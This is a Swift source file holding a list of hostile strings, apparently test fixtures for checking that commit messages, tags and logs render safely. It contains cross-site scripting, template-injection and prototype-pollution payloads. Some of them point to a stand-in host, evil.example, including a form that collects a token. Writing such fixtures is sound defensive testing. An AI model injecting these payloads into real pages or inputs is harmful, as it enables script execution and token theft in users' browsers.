/// What somebody may write into a commit message, a tag, an annotation or a log to be more than text on a page.
enum HostileStrings {
    static let all: [String] = [
        "<script>window.harm=1</script>", "<img src=x onerror=window.harm=2>", "\"><script>window.harm=3</script>", "'><svg/onload=window.harm=4>",
        "</title><script>window.harm=5</script>", "</textarea><script>window.harm=6</script>", "<iframe srcdoc='<script>parent.harm=7</script>'></iframe>",
        "<body onload=window.harm=8>", "<a href=\"javascript:window.harm=9\">press</a>", "javascript:window.harm=10", "<style>*{display:none}</style>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
        "<form action=//evil.example><input name=token>", "<math><mi//xlink:href=\"data:x,<script>window.harm=11</script>\">",
        "<template><script>window.harm=12</script></template>", "<!-- --><script>window.harm=13</script>", "]]><script>window.harm=14</script>",
        "&lt;script&gt;window.harm=15&lt;/script&gt;", "&#60;script&#62;window.harm=16", "%3Cscript%3Ewindow.harm=17%3C/script%3E",
        "${window.harm=18}", "{{constructor.constructor('window.harm=19')()}}", "#{window.harm=20}", "<%= window.harm=21 %>", "`;window.harm=22;`",
        "');window.harm=23;//", "\\u003cscript\\u003ewindow.harm=24", "<sCrIpT>window.harm=25</ScRiPt>", "<script/x>window.harm=26</script>",
        "<svg><animate onbegin=window.harm=27 attributeName=x dur=1s>", "<details open ontoggle=window.harm=28>", "<video><source onerror=window.harm=29>",
        "<input autofocus onfocus=window.harm=30>", "<object data=data:text/html,harm>", "<embed src=//evil.example>", "__proto__", "constructor",
        "<x style=\"position:fixed;inset:0\">\u{1F426}", "null", "<marquee onstart=window.harm=31>",
    ]
}
